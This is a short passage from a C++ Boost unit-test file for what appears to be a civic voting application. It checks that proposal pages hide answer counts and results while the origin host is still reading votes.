    BOOST_TEST(test::read_file(folder / "text") == text + "\n");
  }
  std::filesystem::remove_all(folder);
}
#endif

BOOST_AUTO_TEST_CASE(while_the_origin_reads_the_votes_it_shows_no_count_and_no_result) {
  const Words words = test::words("en");
  const auto has_counts = [](const std::string& shown) {
    return shown.find("answers counted") != std::string::npos || shown.find("answer counted") != std::string::npos ||
           shown.find("More answers were") != std::string::npos;
  };
  for (const std::string page : {"proposals", "proposals/prp-open", "proposals/prp-closed"}) {
    State state = city().state("/en/" + page);
    state.host = engine::Host::origin;
    state.logs[1].target_leaves = state.logs[1].checked_leaves = 7;
    BOOST_TEST(has_counts(outline(render_screen(state, words))), page);
    state.logs[1].checked_leaves = 3;
    BOOST_TEST(!has_counts(outline(render_screen(state, words))), page);
  }
}

BOOST_AUTO_TEST_SUITE_END()
